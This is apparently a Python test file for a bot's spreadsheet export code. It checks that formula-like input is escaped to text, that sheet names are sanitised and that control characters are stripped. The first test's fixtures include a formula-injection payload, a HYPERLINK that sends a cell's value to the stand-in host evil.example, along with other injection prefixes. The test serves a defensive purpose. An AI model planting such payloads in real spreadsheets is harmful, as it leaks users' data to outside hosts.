"""Workbooks for exports: what people typed never becomes a formula, numbers stay numbers."""

from __future__ import annotations

import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from bot.services import spreadsheets


def test_a_malicious_formula_stays_text() -> None:
    data = spreadsheets.write_workbook(
        {
            "Answers": (
                ["Who", "Comment", "Score"],
                [
                    ["=cmd", '=HYPERLINK("http://evil.example/?"&A1,"Click")', 5],
                    ["+256 772", "@SUM(A1:A9)", 4.5],
                    ["-1", "\tindented", None],
                    ["Wei", "讲座很好 ممتاز", True],
                ],
            )
        }
    )
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["Answers"]
    link = sheet["B2"]
    assert link.data_type == "s"
    assert link.value == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(spreadsheets.FORMULA_STARTS)
    assert [sheet["A3"].value, sheet["B3"].value] == ["'+256 772", "'@SUM(A1:A9)"]
    assert sheet["A4"].value == "'-1"
    assert sheet["C2"].value == 5
    assert sheet["C2"].data_type == "n"
    assert sheet["C3"].value == 4.5
    assert sheet["C4"].value is None
    assert sheet["B5"].value == "讲座很好 ممتاز"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_sheets_keep_their_order_and_get_names_excel_accepts() -> None:
    when = datetime(2027, 3, 8, 10, 45, tzinfo=UTC)
    data = spreadsheets.write_workbook(
        {
            "Summary": (["A"], [[1]]),
            "Question: how? [1/2]": (["B"], [[when]]),
            "A very long sheet name that Excel would refuse": ([], []),
            "a very long sheet name that excel would refuse, again": ([], []),
        }
    )
    sheets = spreadsheets.read_back(data)
    names = list(sheets)
    assert names[:2] == ["Summary", "Question how 1 2"]
    assert all(len(name) <= 31 for name in names)
    assert len(set(names)) == 4
    assert sheets["Question how 1 2"] == [["B"], ["2027-03-08 10:45+00:00"]]


def test_control_characters_are_dropped_not_refused() -> None:
    data = spreadsheets.write_workbook({"S": (["T"], [["bell\x07 here"]])})
    assert spreadsheets.read_back(data)["S"] == [["T"], ["bell here"]]


def test_neutralise() -> None:
    assert spreadsheets.neutralise(None) == ""
    assert spreadsheets.neutralise("=1+1") == "'=1+1"
    assert spreadsheets.neutralise("'=1+1") == "'=1+1"  # twice is once
    assert spreadsheets.neutralise(12) == "12"
